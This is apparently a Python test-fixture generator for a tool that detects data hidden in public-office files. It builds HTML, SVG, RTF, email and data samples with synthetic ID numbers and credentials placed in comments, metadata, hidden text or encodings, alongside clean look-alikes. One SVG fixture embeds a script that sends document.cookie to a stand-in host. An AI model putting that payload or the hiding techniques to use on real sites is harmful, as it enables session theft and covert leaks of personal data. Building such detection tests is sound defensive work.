"""Text, tables, data, web pages, drawings and mails: what is in the source and not on the screen."""

from __future__ import annotations

import base64
import json
from email.message import EmailMessage
from email.policy import SMTP
from html import escape

from cases import CUNNING, EDITOR, INTERNAL, PLAIN, REQUESTERS, SYSTEMS, Making, clean, leak
from images import photo, with_place
from papers import jpeg
from pdfs import pdf_black_box

_ZERO_WIDTH = "\u200b"


def _page(its: Making, inside: str, head: str = "") -> bytes:
    lines = "".join(f"<p>{escape(line)}</p>\n" for line in its.prose(3))
    return f'<!doctype html>\n<html lang="id"><head><meta charset="utf-8"><title>{its.subject()}</title>{head}</head>\n<body><h1>{its.office.unit}</h1>\n{lines}{inside}</body></html>\n'.encode()


def _drawing(its: Making, inside: str, more: str = "") -> bytes:
    bars = "".join(
        f'<rect x="{20 + 40 * place}" y="{its.rng.randint(40, 120)}" width="30" height="60" fill="#25a"/>'
        for place in range(6)
    )
    return f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 320 200" width="320" height="200"{more}><title>Grafik realisasi</title>{bars}<text x="20" y="190" font-size="12">Realisasi per triwulan</text>{inside}</svg>\n'.encode()


def _rich(its: Making, inside: str, head: str = "") -> bytes:
    lines = "".join(f"{line}\\par\n" for line in its.prose(3))
    return (
        "{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Arial;}}{\\colortbl;\\red255\\green255\\blue255;\\red0\\green0\\blue0;}"
        + head
        + f"\\f0\\fs22 {its.office.unit}\\par\n{lines}{inside}"
        + "}"
    ).encode("cp1252")


def _mail(its: Making) -> EmailMessage:
    mail = EmailMessage(policy=SMTP)
    mail["From"] = f"PPID <{its.office.mail}>"
    mail["To"] = "ppid@provinsi.go.id"
    mail["Date"] = "Tue, 05 Mar 2024 09:30:00 +0700"
    mail["Subject"] = its.subject()
    mail.set_content("\n\n".join(its.prose(2)) + "\n", cte="8bit")
    return mail


def _sent(mail: EmailMessage) -> bytes:
    for number, part in enumerate(mail.walk()):
        if part.is_multipart():
            part.set_boundary(f"===batas{number}==")
    return mail.as_bytes()


# ------------------------------------------------------------------ plain leaks
@leak("text", PLAIN, "comment", ".html", asset=INTERNAL)
def html_comment(its: Making) -> bytes:
    """A comment in the source of the page."""
    return _page(its, f"<!-- {its.whisper()} -->\n")


@leak("text", PLAIN, "hidden-text", ".html", asset=REQUESTERS)
def html_not_displayed(its: Making) -> bytes:
    """A paragraph that the style does not display."""
    return _page(its, f'<p style="display:none">{escape(its.whisper())}</p>\n')


@leak("text", PLAIN, "hidden-text", ".svg", asset=INTERNAL)
def svg_hidden_text(its: Making) -> bytes:
    """A text of the drawing with visibility hidden."""
    return _drawing(its, f'<text x="20" y="100" visibility="hidden">{escape(its.whisper())}</text>')


@leak("text", PLAIN, "script", ".svg", asset=SYSTEMS, adversary=EDITOR)
def svg_script(its: Making) -> bytes:
    """The drawing runs a script in the site's name."""
    code = its.keep('fetch("http://pengumpul.example/?"+document.cookie)')
    return _drawing(its, f"<script>{code}</script>")


@leak("text", PLAIN, "hidden-text", ".rtf", asset=INTERNAL)
def rtf_hidden_text(its: Making) -> bytes:
    """Characters with the effect Hidden."""
    return _rich(its, "{\\v " + its.whisper() + "}\\par\n")


@leak("text", PLAIN, "comment", ".md", asset=INTERNAL)
def markdown_comment(its: Making) -> bytes:
    """A comment between two paragraphs."""
    return f"# {its.subject()}\n\n{its.prose(1)[0]}\n\n<!-- {its.whisper()} -->\n\n{its.prose(1)[0]}\n".encode()


@leak("text", PLAIN, "data-field", ".json", asset=REQUESTERS)
def json_record(its: Making) -> bytes:
    """The data of a request with the requester in it."""
    someone = its.person()
    record = {
        "nomor": "014/PPID/2024",
        "status": "selesai",
        "pemohon": {
            "nama": someone.name,
            "nik": its.keep(someone.nik),
            "alamat": someone.address,
            "telepon": someone.phone,
        },
    }
    return json.dumps([record], indent=2).encode()


@leak("text", PLAIN, "attachment", ".eml", asset=REQUESTERS)
def mail_with_list(its: Making) -> bytes:
    """A mail to which the list of requesters is attached."""
    rows = "".join(f"{one.name},{its.keep(one.nik)},{one.phone}\n" for one in (its.person() for _ in range(4)))
    mail = _mail(its)
    mail.add_attachment(("nama,nik,telepon\n" + rows).encode(), maintype="text", subtype="csv", filename="pemohon.csv")
    return _sent(mail)


@leak("text", PLAIN, "credentials", ".txt", asset=SYSTEMS)
def text_password(its: Making) -> bytes:
    """A note with the user and the password of the content system."""
    secret = its.keep(f"Adm1n!{its.number(5)}xQ")
    return f"Catatan pemeliharaan laman\n\nhost: 10.12.4.18\nuser: admin_ppid\npassword: {secret}\n\n{its.prose(1)[0]}\n".encode()


@leak("text", PLAIN, "credentials", ".pem", asset=SYSTEMS)
def text_private_key(its: Making) -> bytes:
    """A private key."""
    body = base64.b64encode(its.rng.randbytes(600)).decode()
    its.keep(body[:60])
    lines = "\n".join(body[place : place + 64] for place in range(0, len(body), 64))
    return f"-----BEGIN RSA PRIVATE KEY-----\n{lines}\n-----END RSA PRIVATE KEY-----\n".encode()


# ------------------------------------------------------------------ cunning leaks
@leak("text", CUNNING, "hidden-text", ".html", asset=REQUESTERS)
def html_pale_and_hidden(its: Making) -> bytes:
    """White on white, a hidden attribute, a template, a data attribute: four ways not to show it."""
    ways = (
        f'<p style="color:#fff;background:#ffffff">{escape(its.whisper())}</p>\n<div hidden>{escape(its.whisper())}</div>\n'
        f'<template><p>{escape(its.whisper())}</p></template>\n<span data-catatan="{escape(its.whisper())}">Terlampir</span>\n'
    )
    return _page(its, ways)


@leak("text", CUNNING, "data-field", ".html")
def html_data_block(its: Making) -> bytes:
    """The page's own data block holds more than its table shows."""
    someone = its.person()
    data = json.dumps([
        {"wilayah": "Utara", "jumlah": 12, "contoh": {"nama": someone.name, "nik": its.keep(someone.nik)}}
    ])
    return _page(
        its,
        f'<table><tr><td>Utara</td><td>12</td></tr></table>\n<script type="application/json" id="data">{data}</script>\n',
    )


@leak("text", CUNNING, "text-under-box", ".svg", asset=REQUESTERS)
def svg_text_below_a_rectangle(its: Making) -> bytes:
    """A black rectangle is drawn over the words."""
    return _drawing(
        its,
        f'<text x="20" y="20" font-size="10">{escape(its.whisper())}</text><rect x="0" y="5" width="320" height="22" fill="#000"/>',
    )


@leak("text", CUNNING, "off-page-text", ".svg", asset=INTERNAL)
def svg_outside_its_view(its: Making) -> bytes:
    """Words far outside the part of the drawing that is shown."""
    return _drawing(its, f'<text x="-4000" y="20">{escape(its.whisper())}</text>')


@leak("text", CUNNING, "metadata", ".svg", asset=REQUESTERS)
def svg_metadata(its: Making) -> bytes:
    """The drawing program's own data: a description of the case and a layer named after it."""
    return _drawing(
        its,
        f'<metadata><dc:description xmlns:dc="http://purl.org/dc/elements/1.1/">{escape(its.whisper())}</dc:description></metadata>',
    )


@leak("text", CUNNING, "image-place", ".svg")
def svg_embedded_photo(its: Making) -> bytes:
    """A photo with the coordinates of a house is embedded in the drawing."""
    its.keep("gps:exif")
    data = base64.b64encode(with_place(its, photo(its))).decode()
    return _drawing(its, f'<image x="200" y="10" width="90" height="60" xlink:href="data:image/jpeg;base64,{data}"/>')


@leak("text", CUNNING, "tracked-deletion", ".rtf", asset=REQUESTERS)
def rtf_deleted_and_ignored(its: Making) -> bytes:
    """Text struck out with changes recorded, and a comment group that old programs skip."""
    deleted = "{\\deleted\\revauthdel1 " + its.whisper() + "}"
    return _rich(its, deleted + "{\\*\\annotation " + its.whisper() + "}\\par\n")


@leak("text", CUNNING, "metadata", ".rtf", asset=REQUESTERS)
def rtf_information(its: Making) -> bytes:
    """The information group: the remark of who saved it last."""
    return _rich(its, "", head="{\\info{\\title Surat}{\\doccomm " + its.whisper() + "}}")


@leak("text", CUNNING, "comment", ".md", asset=INTERNAL)
def markdown_reference(its: Making) -> bytes:
    """A link definition that nothing refers to is used as a remark, and the head of the file has a note."""
    return f"---\ntitle: {its.subject()}\ncatatan_internal: {its.whisper()}\n---\n\n{its.prose(1)[0]}\n\n[//]: # ({its.whisper()})\n".encode()


@leak("text", CUNNING, "attachment", ".eml", asset=REQUESTERS)
def mail_with_covered_letter(its: Making) -> bytes:
    """A mail with a PDF whose black box covers nothing."""
    mail = _mail(its)
    mail.add_attachment(pdf_black_box(its), maintype="application", subtype="pdf", filename="surat.pdf")
    return _sent(mail)


@leak("text", CUNNING, "encoded", ".json")
def json_encoded(its: Making) -> bytes:
    """A field holds a base64 text that is a table of people."""
    rows = "nama,nik\n" + "".join(f"{one.name},{its.keep(one.nik)}\n" for one in (its.person() for _ in range(4)))
    return json.dumps({"judul": its.subject(), "lampiran": base64.b64encode(rows.encode()).decode()}).encode()


@leak("text", CUNNING, "encoded", ".csv")
def csv_utf16_and_wide_digits(its: Making) -> bytes:
    """A UTF-16 table whose numbers are written with full-width digits."""
    rows = [
        f"{one.name}\t{its.keep(one.nik).translate({48 + digit: 0xFF10 + digit for digit in range(10)})}"
        for one in (its.person() for _ in range(5))
    ]
    return ("nama\tnik\r\n" + "\r\n".join(rows) + "\r\n").encode("utf-16")


@leak("text", CUNNING, "encoded", ".tsv")
def tsv_zero_width(its: Making) -> bytes:
    """Invisible characters between the digits, from a copy out of a web page."""
    rows = [f"{one.name}\t{_ZERO_WIDTH.join(its.keep(one.nik))}" for one in (its.person() for _ in range(5))]
    return ("nama\tnomor kependudukan\n" + "\n".join(rows) + "\n").encode()


@leak("text", CUNNING, "encoded", ".html")
def html_entities_and_tags(its: Making) -> bytes:
    """The number is split by tags and written as entities; the reader sees a NIK."""
    someone = its.person()
    digits = its.keep(someone.nik)
    coded = "".join(
        f"<b>{''.join(f'&#{ord(digit)};' for digit in digits[place : place + 4])}</b>" for place in range(0, 16, 4)
    )
    return _page(its, f"<p>Pemohon {someone.name}, NIK {coded}</p>\n")


@leak("text", CUNNING, "hidden-text", ".txt", asset=REQUESTERS)
def text_far_below(its: Making) -> bytes:
    """After three thousand empty lines the notes of the one who wrote it go on."""
    someone = its.person()
    return (
        "\n".join(its.prose(3))
        + "\n" * 3000
        + f"Pemohon: {someone.name}\nNIK: {its.keep(someone.nik)}\nHP: {someone.phone}\n"
    ).encode()


# ------------------------------------------------------------------ clean look-alikes
@clean("text", "comment", ".html")
def html_clean_comments(its: Making) -> bytes:
    """No comments; classes, ids and accessible names that only a reading program speaks."""
    return _page(
        its,
        '<nav aria-label="Menu utama"><a href="#isi" class="visually-hidden">Langsung ke isi</a></nav>\n<p id="isi">Selengkapnya di loket pelayanan.</p>\n',
    )


@clean("text", "hidden-text", ".html")
def html_clean_white_on_dark(its: Making) -> bytes:
    """White letters on dark ground, small print, a table."""
    return _page(
        its,
        '<div style="background:#123;color:#fff"><p>Jam layanan 08.00 sampai 15.00</p></div><p style="font-size:9px">Diperbarui 5 Maret 2024</p>\n',
    )


@clean("text", "hidden-text", ".svg")
def svg_clean_chart(its: Making) -> bytes:
    """A chart with title, description, definitions and a clip path; all its words are shown."""
    return _drawing(
        its,
        '<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient><clipPath id="c"><rect width="320" height="200"/></clipPath></defs><rect x="250" y="10" width="60" height="20" fill="#123"/><text x="255" y="24" font-size="10" fill="#fff">TW IV</text>',
        ' role="img"',
    )


@clean("text", "image-place", ".svg")
def svg_clean_embedded_photo(its: Making) -> bytes:
    """An embedded photo without properties."""
    data = base64.b64encode(jpeg(photo(its))).decode()
    return _drawing(its, f'<image x="200" y="10" width="90" height="60" xlink:href="data:image/jpeg;base64,{data}"/>')


@clean("text", "hidden-text", ".rtf")
def rtf_clean(its: Making) -> bytes:
    """A letter with styles, a table of fonts, the generator's group."""
    return _rich(
        its,
        "\\b Demikian\\b0  disampaikan.\\par\n",
        head="{\\*\\generator Riched20 10.0;}{\\info{\\title Surat}{\\author Sekretariat}}",
    )


@clean("text", "comment", ".md")
def markdown_clean(its: Making) -> bytes:
    """Headings, a list, a table, a link that is used."""
    return f"---\ntitle: {its.subject()}\n---\n\n# Standar layanan\n\n{its.prose(1)[0]}\n\n| Hari | Jam |\n|---|---|\n| Senin | 08.00 |\n\n- Loket PPID\n- [Laman][ppid]\n\n[ppid]: https://ppid.tirtamulyakab.go.id/\n".encode()


@clean("text", "data-field", ".json")
def json_clean(its: Making) -> bytes:
    """The public register: codes, titles, officials, hashes, sums."""
    who = its.official()
    rows = [
        {
            "kode": f"DIP-2024-{number:03}",
            "judul": its.subject(),
            "penanggung_jawab": who.name,
            "nip": who.nip,
            "sha256": its.rng.randbytes(32).hex(),
            "pagu": its.rng.randint(10**8, 10**10),
        }
        for number in range(20)
    ]
    return json.dumps({"register": rows, "diperbarui": "2024-03-05"}, indent=1).encode()


@clean("text", "attachment", ".eml")
def mail_clean(its: Making) -> bytes:
    """A notice from office to office, with an invitation as PDF."""
    from papers import letter  # noqa: PLC0415 - beside its use

    mail = _mail(its)
    mail.add_attachment(letter(its), maintype="application", subtype="pdf", filename="undangan.pdf")
    return _sent(mail)


@clean("text", "credentials", ".txt")
def text_clean_about_passwords(its: Making) -> bytes:
    """Advice about passwords, without one."""
    return f"Panduan keamanan informasi\n\nKata sandi paling sedikit dua belas karakter dan diganti setiap enam bulan.\nJangan menuliskan password: di kertas atau mengirimnya melalui surel.\nUser: gunakan alamat surel dinas.\n\n{its.prose(1)[0]}\n".encode()


@clean("text", "encoded", ".csv")
def csv_clean_utf16(its: Making) -> bytes:
    """A UTF-16 table of figures, as Excel writes it."""
    rows = [f"{number}\tSubkegiatan {number}\t{its.rng.randint(10**7, 10**9)}" for number in range(1, 20)]
    return ("no\turaian\tpagu\r\n" + "\r\n".join(rows) + "\r\n").encode("utf-16")


@clean("text", "encoded", ".txt")
def text_clean_windows(its: Making) -> bytes:
    """An old text in Windows-1252 with quotes and dashes."""
    return ("“Maklumat pelayanan” – kami siap melayani.\r\n" + "\r\n".join(its.prose(3))).encode("cp1252")
